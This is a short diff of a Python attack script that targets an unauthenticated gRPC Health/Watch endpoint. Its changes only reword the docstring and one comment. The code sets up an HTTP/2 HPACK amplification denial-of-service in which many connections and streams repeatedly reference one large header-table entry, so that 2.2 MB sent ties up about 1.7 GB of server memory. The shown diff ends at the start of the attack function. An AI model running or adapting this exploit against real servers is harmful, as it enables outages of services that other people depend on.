@@ -1,5 +1,6 @@
-"""Health/Watch needs no token: 98 connections open 1,024 streams each, with heads of 16 KiB that are
-one entry of HPACK's dynamic table. 2.2 MB sent fill every place for calls, with 1.7 GB.
+"""Health/Watch needs no token: 98 connections open 1,024 streams each, with headers of 16 KiB that
+come from one entry of HPACK's dynamic table. The 2.2 MB sent would take every place for calls, and
+1.7 GB of memory.
 """
 
 from attacker import frame, http2, literal, text
@@ -7,7 +8,7 @@ from attacker import frame, http2, literal, text
 CONNECTIONS, STREAMS = 98, 1024
 HEAD = http2.request_headers(b"/grpc.health.v1.Health/Watch")
 LARGE = b"\x40\x01x" + text(b"y" * 3900)  # now entry 62 of the table
-AGAIN = b"\xbe" * 3  # as much again, each
+AGAIN = b"\xbe" * 3  # the same size again, each
 
 
 def attack(attacker):
